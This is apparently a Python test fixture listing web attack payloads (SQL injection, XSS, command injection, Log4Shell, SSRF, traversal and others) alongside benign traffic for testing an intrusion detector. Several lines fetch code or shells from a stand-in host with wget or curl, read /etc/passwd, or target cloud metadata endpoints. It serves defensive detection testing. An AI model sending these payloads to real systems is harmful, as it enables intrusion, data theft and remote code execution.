"""A payload corpus by family, for the detection tests: each attacking client sends one payload,
plain, encoded or evasive, in the path, the query, the user agent or the referer; benign
clients send what developers, monitors, API clients, crawlers and self-hosted apps send.

Written for this project from the public descriptions of each family (OWASP's attack
categories, the published payloads of the CVEs named). A client is (name, family, verdict,
requests); a request is (method, target, headers).
"""

from dataclasses import dataclass, field
from urllib.parse import quote

from tests.detection_corpus import ATTACK, BENIGN, CHROME, FIREFOX, SAFARI


@dataclass
class Client:
    name: str
    family: str
    verdict: str
    requests: list[tuple[str, str, dict[str, str]]]
    expect: set[str] = field(default_factory=set)


def q(text: str) -> str:
    return quote(text, safe="")


def qq(text: str) -> str:
    """Encoded twice."""
    return q(q(text))


def in_query(name: str, payload: str) -> tuple[str, str, dict[str, str]]:
    return ("GET", f"/?{name}={payload}", {})


def in_path(path: str) -> tuple[str, str, dict[str, str]]:
    return ("GET", path, {})


def in_agent(payload: str) -> tuple[str, str, dict[str, str]]:
    return ("GET", "/", {"User-Agent": payload})


def in_referer(payload: str) -> tuple[str, str, dict[str, str]]:
    return ("GET", "/", {"Referer": f"https://example.com/search?q={payload}"})


PADDING = "a" * 1200  # past the 1,000 characters of query and 512 of user agent stored

# family -> list of (variant name, request)
PAYLOADS: dict[str, list[tuple[str, tuple[str, str, dict[str, str]]]]] = {
    "sqli": [
        ("tautology", in_query("id", q("1' OR '1'='1"))),
        ("union", in_query("id", q("1 UNION SELECT username,password FROM auth_user--"))),
        ("double-encoded", in_query("id", qq("1' or 1=1-- "))),
        ("comments", in_query("id", q("1'/**/UN/**/ION/**/SELECT/**/1,2--"))),
        ("percent-u", in_query("id", "1%u0027%20or%20%u00271%u0027%3D%u00271")),
        ("stacked-sleep", in_query("id", q("1; SELECT pg_sleep(5)--"))),
        ("blind", in_query("id", q("1 AND SLEEP(5)"))),
        ("in-name", in_query(q("id' or '1'='1"), "1")),
        ("agent", in_agent("Mozilla/5.0' AND 1=1 UNION SELECT 1,2,3-- ")),
        ("referer", in_referer(q("' or 1=1--"))),
        ("after-padding", ("GET", f"/?pad={PADDING}&id={q('1 UNION SELECT 1,2')}", {})),
        ("fullwidth", in_query("id", q("1 ｕｎｉｏｎ ｓｅｌｅｃｔ 1"))),
        ("empty-strings", in_query("user", q("' or ''='"))),
        ("union-call", in_query("id", q("1 union/**/select user()"))),
        (
            "catalog",
            in_query("id", q("1 and 1 in (select table_name from information_schema.tables)")),
        ),
    ],
    "xss": [
        ("script", in_query("q", q("<script>alert(1)</script>"))),
        ("event-handler", in_query("q", q('"><svg/onload=alert(document.domain)>'))),
        ("entities", in_query("q", q("&#x3c;img src=x onerror=alert(1)&#x3e;"))),
        ("js-escapes", in_query("q", q("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"))),
        ("javascript-url", in_query("next", q("javascript:alert(1)"))),
        ("iframe", in_query("q", qq('"><iframe src="//198.51.100.9/x">'))),
        ("string-break", in_query("q", q("';alert(String.fromCharCode(88))//"))),
        ("path", in_path("/%3Cscript%3Ealert(1)%3C/script%3E/")),
        ("agent", in_agent("<script>alert('ua')</script>")),
        ("referer", in_referer(q("<img src=x onerror=alert(1)>"))),
    ],
    "command": [
        ("semicolon", in_query("host", q("127.0.0.1;cat /etc/passwd"))),
        ("pipe", in_query("host", q("x|id"))),
        ("subshell", in_query("host", q("$(wget http://198.51.100.9/x.sh)"))),
        ("backticks", in_query("host", q("`whoami`"))),
        ("newline", in_query("host", "x%0Aid")),
        ("ifs", in_query("host", q(";cat${IFS}/etc/passwd"))),
        ("agent", in_agent("() { :; }; /bin/bash -c 'curl http://198.51.100.9/x'")),
        ("referer", in_referer(q("x && curl http://198.51.100.9/x"))),
    ],
    "php": [
        ("filter", in_query("file", q("php://filter/convert.base64-encode/resource=index"))),
        ("input", in_query("page", "php://input")),
        ("data", in_query("file", q("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"))),
        ("expect", in_query("file", q("expect://id"))),
        ("code", in_query("x", q("<?php system('id'); ?>"))),
        ("function", in_query("x", q("system('id')"))),
        ("agent", in_agent("<?php echo shell_exec($_GET['c']); ?>")),
    ],
    "rfi": [
        ("trailing-question", in_query("page", q("http://198.51.100.9/shell.txt?"))),
        ("include", in_query("include", q("https://evil.example/inc.php"))),
        ("template", in_query("template", q("ftp://198.51.100.9/x"))),
        ("double-encoded", in_query("file", qq("http://198.51.100.9/r57.txt?"))),
    ],
    "ssrf": [
        ("metadata", in_query("url", q("http://169.254.169.254/latest/meta-data/"))),
        ("gcp", in_query("url", q("http://metadata.google.internal/computeMetadata/v1/"))),
        ("gopher", in_query("url", q("gopher://127.0.0.1:6379/_INFO"))),
        ("file", in_query("url", q("file:///etc/passwd"))),
        ("dict", in_query("url", q("dict://127.0.0.1:11211/stat"))),
        ("referer", in_referer(q("http://169.254.169.254/"))),
    ],
    "log4shell": [
        ("plain-agent", in_agent("${jndi:ldap://198.51.100.9:1389/a}")),
        ("lower", in_agent("${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}")),
        ("defaults", in_agent("${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/a}")),
        ("env", in_query("x", q("${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.51.100.9/a}"))),
        ("encoded", in_query("x", qq("${jndi:dns://198.51.100.9/a}"))),
        ("referer", ("GET", "/", {"Referer": "${jndi:ldap://198.51.100.9/a}"})),
        ("after-padding", in_agent(f"Mozilla/5.0 {'x' * 600} ${{jndi:ldap://198.51.100.9/a}}")),
    ],
    "java": [
        ("ognl", in_query("x", q("%{(#_memberAccess['allowStaticMethodAccess']=true)}"))),
        ("spel", in_query("x", q("${T(java.lang.Runtime).getRuntime().exec('id')}"))),
        ("spring4shell", in_query(q("class.module.classLoader.resources.context.parent"), "x")),
        ("template", in_query("name", q("{{7*7}}"))),
    ],
    "session_fixation": [
        ("jsessionid", in_query("jsessionid", "ABCDEF0123456789")),
        ("phpsessid", in_query("PHPSESSID", "attackerchosen")),
        ("path-parameter", in_path("/;jsessionid=ABCDEF0123456789")),
    ],
    "traversal": [
        ("plain", in_query("file", q("../../../../etc/passwd"))),
        ("double-encoded", in_query("file", "..%252f..%252f..%252fetc%252fpasswd")),
        ("overlong", in_query("file", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd")),
        ("backslashes", in_query("file", q("..\\..\\windows\\win.ini"))),
        ("nul", in_query("file", "report.php%00.jpg")),
        ("nul-path", in_path("/static/report.php%00.jpg")),
    ],
    "path_parameters": [
        ("manager", in_path("/manager/html;jsessionid=0123456789ABCDEF")),
        ("actuator", in_path("/actuator;/env")),
    ],
    "unserved": [
        ("php", in_path("/index.php")),
        ("cgi", in_path("/cgi-bin/status.cgi")),
        ("asp", in_path("/default.aspx")),
        ("jsp", in_path("/login.jsp")),
        ("action", in_path("/struts2-showcase/index.action")),
    ],
    "method": [
        ("trace", ("TRACE", "/", {})),
        ("propfind", ("PROPFIND", "/", {})),
        ("debug", ("DEBUG", "/", {})),
    ],
}


def attacking_clients() -> list[Client]:
    return [
        Client(f"{family}-{variant}", family, ATTACK, [request])
        for family, variants in PAYLOADS.items()
        for variant, request in variants
    ]


DEVELOPER_SEARCHES = [
    '<script type="module">', "eval() vs ast.literal_eval()", "window.alert() vs console.log()",
    "SELECT * FROM users WHERE id = 1", "how to use ; in bash", "c++ templates <T>",
    "python f'{x}' strings", "javascript: the good parts", "what is document.cookie",
    "O'Reilly -- Learning Python", "rm -rf node_modules", "${HOME} in bash", "1 + 1 = 2",
    "cats and dogs = pets", "../ in relative imports", "php vs python", "a -- b",
    "java.lang.String docs", "{% url 'home' %}", "where's my order?",
    "union select syntax", "union select vs join", "select from dual meaning",
    "select * from information_schema.tables",
]  # fmt: skip


def benign_clients() -> list[Client]:
    plain = {"User-Agent": CHROME}
    clients = [
        Client("developer-search", "benign", BENIGN,
               [("GET", f"/?q={q(text)}", plain) for text in DEVELOPER_SEARCHES]),
        Client("docs-reader", "benign", BENIGN,
               [("GET", "/docs/api/document.cookie", plain),
                ("GET", "/docs/api/window.alert", plain)]),
        Client("uptime-monitor-login", "benign", BENIGN,
               [("GET", "/login/", {"User-Agent": "Better Uptime Bot Chrome/119.0"})] * 60),
        Client("api-client", "benign", BENIGN,
               [("GET", f"/api/v1/items?page={i}&ordering=-created&fields=id,name",
                 {"User-Agent": "python-httpx/0.27.0", "Accept": "application/json"})
                for i in range(1, 15)]),
        Client("crawler", "benign", BENIGN,
               [("GET", path, {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; "
                                             "+http://www.google.com/bot.html)"})
                for path in ("/robots.txt", "/", "/sitemap.xml", "/?page=2")]),
        Client("tracking-urls", "benign", BENIGN,
               [("GET", "/?utm_source=facebook&utm_medium=cpc&utm_campaign=winter_sale_2024"
                 "&utm_content=carousel%7Cslide-3&fbclid=IwAR3" + "xYz_ab-C" * 40, plain),
                ("GET", "/?gclid=Cj0KCQiA" + "w5-_9" * 60 + "&gad_source=1", plain),
                ("GET", "/", {**plain, "Referer": "https://www.google.com/url?sa=t&rct=j&q="
                              "&esrc=s&source=web&cd=&ved=2ahUKEwj&url=https%3A%2F%2Fexample."
                              "com%2F&usg=AOvVaw"})]),
        Client("nextcloud-desktop", "benign", BENIGN,
               [("GET", "/ocs/v2.php/cloud/capabilities?format=json",
                   {"User-Agent": "Mozilla/5.0 (Linux) mirall/3.12.3"})] * 3),
        Client("jellyfin-app", "benign", BENIGN,
               [("GET", f"/Items/{i:032x}/Images/Primary?fillHeight=396&fillWidth=264"
                 "&quality=96&tag=a1b2c3", {"User-Agent": "Jellyfin-Android/2.6.1"})
                for i in range(10)]),
        Client("browser-with-search-referer", "benign", BENIGN,
               [("GET", "/", {**plain, "Referer": "https://duckduckgo.com/?q=select+from+"
                              "where+django&ia=web"}),
                ("GET", "/login/", {"User-Agent": SAFARI, "Referer": "https://example.com/"})]),
        Client("firefox-reader", "benign", BENIGN,
               [("GET", "/?q=rock+%26+roll&page=2", {"User-Agent": FIREFOX})]),
    ]  # fmt: skip
    return clients
